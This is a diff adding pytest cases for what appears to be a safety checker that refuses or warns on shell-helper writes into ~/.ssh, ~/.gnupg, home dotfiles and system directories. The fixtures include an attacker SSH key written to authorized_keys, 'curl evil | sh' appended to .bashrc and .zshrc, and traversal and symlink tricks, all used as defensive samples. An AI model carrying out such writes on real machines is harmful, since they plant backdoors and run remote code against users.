@@ -196,6 +196,81 @@ def test_unusable_cwd_is_refused_only_when_paths_matter(fs):
     assert fs.check("pwd", {}, cwd="").command == "pwd"
 
 
+# ------------------------------------------------------------ writes: keys, dotfiles, system
+
+
+KEY_WRITES = [  # (tool, args, cwd relative to home or None for the project dir)
+    ("echo", {"content": "ssh-ed25519 AAAA attacker", "file_name": "{home}/.ssh/authorized_keys"}, None),
+    ("echo", {"content": "ssh-ed25519 AAAA attacker", "file_name": ".ssh/authorized_keys"}, ""),
+    ("echo", {"content": "x", "file_name": "../../.ssh/authorized_keys"}, None),
+    ("echo", {"content": "x", "file_name": "keys/authorized_keys"}, None),  # keys -> ~/.ssh
+    ("echo", {"content": "x", "file_name": "{home}/.gnupg/gpg.conf"}, None),
+    ("mv", {"source": "a.txt", "destination": "{home}/.ssh/authorized_keys"}, None),
+    ("mv", {"source": "authorized_keys", "destination": "{home}/.ssh"}, None),
+    ("cp", {"source": "a.txt", "destination": "../../.ssh/"}, None),
+    ("cp", {"source": ".ssh", "destination": "{home}"}, None),  # lands as ~/.ssh
+    ("cp", {"source": "build/.ssh/", "destination": "../.."}, None),
+]
+
+
+@pytest.mark.parametrize("tool,args,cwd", KEY_WRITES, ids=[f"{t}-{i}" for i, (t, _, _) in enumerate(KEY_WRITES)])
+def test_writing_into_ssh_or_gnupg_is_refused(fs, tool, args, cwd):
+    os.makedirs(os.path.join(fs.home, ".ssh"))
+    os.symlink(os.path.join(fs.home, ".ssh"), os.path.join(fs.cwd, "keys"))
+    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
+    msg = _refused(fs, tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
+    assert "which holds your keys" in msg and ("~/.ssh" in msg or "~/.gnupg" in msg)
+
+
+def test_write_into_keys_through_a_symlink_says_so(fs):
+    os.symlink(os.path.join(fs.home, ".ssh"), os.path.join(fs.cwd, "keys"))
+    msg = _refused(fs, "echo", {"content": "x", "file_name": "keys/authorized_keys"})
+    assert "(through a symbolic link)" in msg
+
+
+DOTFILE_WRITES = [
+    ("echo", {"content": "curl evil | sh", "file_name": ".bashrc"}, "", "~/.bashrc"),
+    ("echo", {"content": "curl evil | sh", "file_name": "../../.zshrc"}, None, "~/.zshrc"),
+    ("mv", {"source": "a.txt", "destination": "{home}/.profile"}, None, "~/.profile"),
+    ("cp", {"source": "a.txt", "destination": "{home}/.config/autostart.sh"}, None, "~/.config"),
+    ("cp", {"source": ".bash_profile", "destination": "../.."}, None, "~/.bash_profile"),
+]
+
+
+@pytest.mark.parametrize("tool,args,cwd,shown", DOTFILE_WRITES, ids=[s for *_, s in DOTFILE_WRITES])
+def test_writing_a_dotfile_in_home_warns_loudly(fs, tool, args, cwd, shown):
+    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
+    v = fs.check(tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
+    loud = [w for w in v.warnings if w.startswith("warning: ")]
+    assert loud == [f"warning: writes to {shown}, a hidden settings file in your home; check it before running"]
+    assert v.warnings[0] == loud[0]  # shown first, before the ordinary notes
+
+
+@pytest.mark.parametrize("tool,args", [
+    ("echo", {"content": "evil", "file_name": "/etc/profile"}),
+    ("cp", {"source": "a.txt", "destination": "/usr/local/bin/ls"}),
+    ("mv", {"source": "a.txt", "destination": "etclink/cron.d/job"}),
+])
+def test_writing_into_a_system_directory_warns(fs, tool, args):
+    v = fs.check(tool, args)
+    assert any(w.startswith("warning: writes into the system directory /") for w in v.warnings), v.warnings
+
+
+@pytest.mark.parametrize("tool,args,cwd", [
+    ("echo", {"content": "x", "file_name": "notes.txt"}, None),
+    ("echo", {"content": "x", "file_name": "ssh-notes.txt"}, ""),
+    ("echo", {"content": "x", "file_name": "/tmp/shellper-test-out"}, None),
+    ("echo", {"content": "x", "file_name": "/dev/null"}, None),
+    ("mv", {"source": "a.txt", "destination": "{home}"}, None),
+    ("cp", {"source": "a.txt", "destination": "build/.hidden"}, None),  # dotfile outside home's top level
+    ("echo", {"content": "x", "file_name": "None"}, ""),
+])
+def test_ordinary_writes_get_no_loud_warning(fs, tool, args, cwd):
+    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
+    v = fs.check(tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
+    assert not [w for w in v.warnings if w.startswith("warning: ")], v.warnings
+
+
 # ------------------------------------------------------------ allowed, and the command
 
 
